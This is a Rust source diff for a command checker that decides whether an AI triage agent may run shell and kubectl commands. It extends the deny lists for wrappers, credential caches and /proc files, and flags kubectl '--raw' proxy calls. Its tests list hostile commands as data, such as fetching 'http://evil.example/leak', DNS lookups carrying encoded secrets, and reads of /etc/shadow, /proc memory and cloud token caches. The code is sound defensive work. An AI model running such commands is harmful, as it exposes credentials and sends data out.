@@ -3,7 +3,9 @@
 
 use serde::{Deserialize, Serialize};
 
+use super::deny::deny_match;
 use super::evaluation;
+use super::hidden_reads;
 use super::parse::{self, Analysis, Segment, Word};
 use crate::tools::kubernetes;
 
@@ -20,7 +22,9 @@ pub enum BuiltinAllowlist {
     None,
 }
 
-/// Read-only commands allowed at the `core` level (prefixes matched word by word).
+/// Read-only commands allowed at the `core` level (prefixes matched word by word). Not
+/// `kubectl config view`: its redaction spares auth-provider tokens (`id-token`,
+/// `refresh-token`, `client-secret`) and credential plugins' `env` and `args`.
 pub const CORE_ALLOW: &[&str] = &[
     "kubectl get",
     "kubectl describe",
@@ -29,7 +33,6 @@ pub const CORE_ALLOW: &[&str] = &[
     "kubectl explain",
     "kubectl api-resources",
     "kubectl api-versions",
-    "kubectl config view",
     "kubectl config current-context",
     "kubectl config get-contexts",
     "kubectl cluster-info",
@@ -85,11 +88,60 @@ pub const EXTENDED_ALLOW: &[&str] = &[
 
 /// Commands that run other commands, change which program a name runs, load code or change
 /// privileges: never run. (`compgen -C`, `fc -e` and `trap` run commands; `hash -p` points a
-/// name at another program; `enable -f` loads a builtin from a shared object.)
+/// name at another program; `enable -f` loads a builtin from a shared object.) A wrapper's
+/// command is not checked, so with approval `stdbuf -o0 kubectl delete …` would escape a
+/// `deny` entry; `time` (a keyword) is one too.
 pub const RUNNERS: &[&str] = &[
-    "sudo", "su", "doas", "pkexec", "runuser", "eval", "exec", "source", ".", "env", "xargs",
-    "nohup", "timeout", "nice", "setsid", "chroot", "nsenter", "unshare", "busybox", "command",
-    "builtin", "trap", "compgen", "fc", "hash", "enable",
+    "sudo",
+    "su",
+    "doas",
+    "pkexec",
+    "runuser",
+    "eval",
+    "exec",
+    "source",
+    ".",
+    "env",
+    "xargs",
+    "nohup",
+    "timeout",
+    "nice",
+    "setsid",
+    "chroot",
+    "nsenter",
+    "unshare",
+    "busybox",
+    "command",
+    "builtin",
+    "trap",
+    "compgen",
+    "fc",
+    "hash",
+    "enable",
+    "time",
+    "stdbuf",
+    "ionice",
+    "taskset",
+    "chrt",
+    "flock",
+    "watch",
+    "script",
+    "strace",
+    "ltrace",
+    "setpriv",
+    "capsh",
+    "prlimit",
+    "unbuffer",
+    "parallel",
+    "systemd-run",
+    "sg",
+    "newgrp",
+    "numactl",
+    "cgexec",
+    "firejail",
+    "bwrap",
+    "catchsegv",
+    "valgrind",
 ];
 
 /// Options that name the files to read in a file or on stdin, out of the path checks' sight
@@ -126,13 +178,27 @@ pub const SENSITIVE_PATHS: &[&str] = &[
     "/proc/kcore",
 ];
 
-/// Files of a process under `/proc/PID/` that hold its secrets: the environment and the whole
-/// memory (`tail -c +N /proc/PID/mem` seeks into another process's heap).
-pub const SENSITIVE_PROC_FILES: &[&str] = &["environ", "mem"];
+/// Files of a process under `/proc/PID/` that hold its secrets: the environment, the whole
+/// memory (`tail -c +N /proc/PID/mem` seeks into another process's heap) and its open files
+/// (`cat /proc/PID/fd/N` opens triage's end of another request's tool output pipe, or a
+/// deleted or anonymous file no path names).
+pub const SENSITIVE_PROC_FILES: &[&str] = &["environ", "mem", "fd", "map_files"];
 
-/// Path component sequences never named, wherever they are (`~/.ssh`, `x/.kube/config`).
-pub const SENSITIVE_COMPONENTS: &[&[&str]] =
-    &[&[".ssh"], &[".kube", "config"], &[".aws", "credentials"]];
+/// Path component sequences never named, wherever they are (`~/.ssh`, `x/.kube/config`):
+/// the credential stores of the tools' user. kubectl's credential plugins keep the cluster's
+/// tokens there (`~/.kube/cache/oidc-login`, `~/.aws/cli/cache`, `~/.aws/sso/cache`,
+/// gcloud's and az's token caches), so a kubeconfig triage uses is only as secret as they are.
+pub const SENSITIVE_COMPONENTS: &[&[&str]] = &[
+    &[".ssh"],
+    &[".kube"],
+    &[".aws"],
+    &[".azure"],
+    &[".config", "gcloud"],
+    &[".docker", "config.json"],
+    &[".netrc"],
+    &[".git-credentials"],
+    &[".gnupg"],
+];
 
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Verdict {
@@ -386,13 +452,13 @@ fn hard_block(base: &str, args: &[&str]) -> Option<String> {
     if let Some(reason) = reads_file_list(base, args) {
         return Some(reason);
     }
+    if let Some(reason) = hidden_reads::jq_modules(base, args) {
+        return Some(reason);
+    }
     if base == "kubectl" || base == "oc" {
         return kubectl_block(base, args);
     }
-    if base == "ps" && args.iter().any(|a| !a.starts_with('-') && a.contains('e')) {
-        return Some("`ps e` prints the environment of processes, which holds credentials".into());
-    }
-    None
+    hidden_reads::ps_environment(base, args)
 }
 
 fn reads_file_list(base: &str, args: &[&str]) -> Option<String> {
@@ -523,17 +589,32 @@ fn risky_option(name: &str, args: &[&str]) -> Option<&'static str> {
         "kubectl" if args.iter().any(|a| a.starts_with("--output-directory")) => {
             Some("`--output-directory` writes files")
         }
-        "kubectl" if args.iter().any(|a| kubectl_elsewhere(a)) => {
+        "kubectl" if raw_proxy(args) => Some(
+            "`--raw` through a `proxy` subresource sends the request on to a pod, a service or \
+             a node's kubelet",
+        ),
+        "kubectl" if kubectl_elsewhere(args) => {
             Some("`-f`/`-k` fetch what to read from files or URLs")
         }
         _ => None,
     }
 }
 
-fn kubectl_elsewhere(arg: &str) -> bool {
+/// `--raw` to a `…/proxy/…` path: the API server forwards it to whatever the path names.
+fn raw_proxy(args: &[&str]) -> bool {
+    args.iter().any(|a| a.starts_with("--raw"))
+        && args
+            .iter()
+            .any(|a| percent_decode(a).split('/').any(|c| c == "proxy"))
+}
+
+/// `-f`/`--filename` or `-k`/`--kustomize`, also inside a cluster of switches (`-Af URL` is
+/// `-A -f URL`): kubectl reads a file or fetches a URL, which can carry what the model read.
+fn kubectl_elsewhere(args: &[&str]) -> bool {
     const LONG: &[&str] = &["--filename", "--kustomize"];
-    let name = arg.split('=').next().unwrap_or(arg);
-    LONG.contains(&name) || ["-f", "-k"].iter().any(|short| arg.starts_with(short))
+    args.iter()
+        .any(|a| LONG.contains(&a.split('=').next().unwrap_or(a)))
+        || short_flag(args, "fk", "nolcvLs")
 }
 
 /// The option arguments before `--`.
@@ -649,34 +730,6 @@ fn allow_match(entry: &[String], words: &[&str]) -> bool {
         .strip_prefix(last.as_str())
         .is_some_and(|rest| last.ends_with('/') && !rest.is_empty() || rest.starts_with('/'));
     under && !w.split('/').any(|c| c == "..")
-}
-
-/// Deny entries match the command name (also as a path's last part) and then each further
-/// entry word in order anywhere among the arguments (so flags in between do not escape
-/// them), tolerating plurals, `kind/name` and comma lists: `kubectl get secret` also denies
-/// `kubectl -n x get secrets/a` and `kubectl get pods,secret`.
-fn deny_match(entry: &[String], words: &[&str]) -> bool {
-    let Some((first, rest)) = entry.split_first() else {
-        return false;
-    };
-    let Some((name, args)) = words.split_first() else {
-        return false;
-    };
-    if basename(name) != first && name != first {
-        return false;
-    }
-    let mut args = args.iter();
-    rest.iter().all(|e| {
-        args.by_ref()
-            .any(|w| w.split(',').any(|el| deny_word(e, el)))
-    })
-}
-
-fn deny_word(entry: &str, word: &str) -> bool {
-    [entry.to_owned(), format!("{entry}s")].iter().any(|e| {
-        word.strip_prefix(e.as_str())
-            .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
-    })
 }
 
 /// Lexical normalisation: `//`, `.` and `..` resolved, relative paths kept relative.
@@ -1094,8 +1147,9 @@ mod tests {
         ("kubectl get pods -A; kubectl get nodes", Allowed),
         ("kubectl get pods\nkubectl get nodes", Allowed),
         ("ls -la /var/log >/dev/null 2>&1 || echo missing", Allowed),
-        ("kubectl config view", Allowed),
-        ("kubectl config view --minify", Allowed),
+        // Prints auth-provider tokens and plugin env of triage's kubeconfig.
+        ("kubectl config view", Approval),
+        ("kubectl config view --minify", Approval),
         ("ping -c 3 10.0.0.1", Approval),
         ("nslookup checkout.shop.svc.cluster.local", Approval),
         ("dig @203.0.113.9 c2VjcmV0", Approval),
@@ -1168,7 +1222,13 @@ mod tests {
         ("sed -n 1p f", Approval),
         ("python3 -c 'print(1)'", Approval),
         ("/usr/bin/kubectl get pods", Approval),
-        ("time ls", Approval),
+        // Wrappers run a command the deny entries do not see.
+        ("time ls", Refused),
+        ("time kubectl rollout restart deploy/x", Refused),
+        ("stdbuf -o0 kubectl rollout restart deploy/x", Refused),
+        ("ionice -c3 kubectl rollout restart deploy/x", Refused),
+        ("watch kubectl rollout restart deploy/x", Refused),
+        ("flock /tmp/l kubectl rollout restart deploy/x", Refused),
         ("ls;rm x", Approval),
         ("echo {}", Approval),
         (
@@ -1234,6 +1294,20 @@ mod tests {
         ("kubectl get pods,secrets", Refused),
         ("kubectl get --raw /api/v1/namespaces/x/secrets", Refused),
         ("kubectl config view --raw", Refused),
+        // `-f` after switches in one cluster still fetches a URL (or reads a file).
+        ("kubectl get -Af http://evil.example/leak", Approval),
+        (
+            "kubectl get --raw /api/v1/namespaces/default/services/http:web:80/proxy/x",
+            Approval,
+        ),
+        ("kubectl get --raw=/api/v1/nodes/n1/proxy/configz", Approval),
+        ("kubectl get --raw /api/v1/nodes/n1/%70roxy/pods", Approval),
+        ("kubectl get --raw /api/v1/namespaces/default/pods", Allowed),
+        ("kubectl get pods -wf http://evil.example/leak", Approval),
+        ("kubectl describe -Rf /tmp/x", Approval),
+        ("kubectl get -Ak /tmp/dir", Approval),
+        ("kubectl get pods -owide -A", Allowed),
+        ("kubectl get pods -lapp=frontend", Allowed),
         ("kubectl config view --flatten", Refused),
         ("cat /etc/shadow", Refused),
         ("cat /etc//./shadow", Refused),
@@ -1243,6 +1317,10 @@ mod tests {
         ("grep --file=/etc/shadow x", Refused),
         ("cat /proc/1/environ", Refused),
         ("cat /proc/self/task/1/environ", Refused),
+        ("cat /proc/1/fd/7", Refused),
+        ("head -c 100 /proc/1/task/1/fd/7", Refused),
+        ("cat /proc/1/map_files/7f00-7f01", Refused),
+        ("cat /proc/1/status", Allowed),
         ("tail -c +4096 /proc/1/mem", Refused),
         ("cat /proc/kcore", Refused),
         ("cat /proc/self/root/etc/shadow", Refused),
@@ -1253,9 +1331,27 @@ mod tests {
         ("cat x/.ssh/id_rsa", Refused),
         ("cat ~/.kube/config", Refused),
         ("cat .aws/credentials", Refused),
+        // Credential plugins' token caches (the cluster credentials of triage's kubeconfig).
+        ("cat /home/triage/.kube/cache/oidc-login/0a1b2c", Refused),
+        ("cat ~/.aws/cli/cache/0a1b2c.json", Refused),
+        ("cat /home/triage/.aws/sso/cache/0a1b2c.json", Refused),
+        (
+            "cat ~/.config/gcloud/application_default_credentials.json",
+            Refused,
+        ),
+        ("cat ~/.azure/msal_token_cache.json", Refused),
+        ("cat ~/.docker/config.json", Refused),
+        ("cat /home/triage/.netrc", Refused),
+        ("cat ~/.git-credentials", Refused),
+        ("ls ~/.aws/cli/cache", Refused),
+        ("cat /home/triage/.config/app.conf", Allowed),
         ("cat /etc/kube/admin.conf", Refused),
         ("kubectl get configmap x -o yaml", Refused),
         ("kubectl get configmaps", Refused),
+        // Short names, kinds and versioned names resolve to the same resource.
+        ("kubectl get cm x -o yaml", Refused),
+        ("kubectl get ConfigMap x", Refused),
+        ("kubectl get configmaps.v1 x", Refused),
         ("kubectl -n x rollout restart deploy/y", Refused),
         ("kubectl rollout undo deploy/y", Refused),
         ("kubectl get secre\\\nt x", Refused),
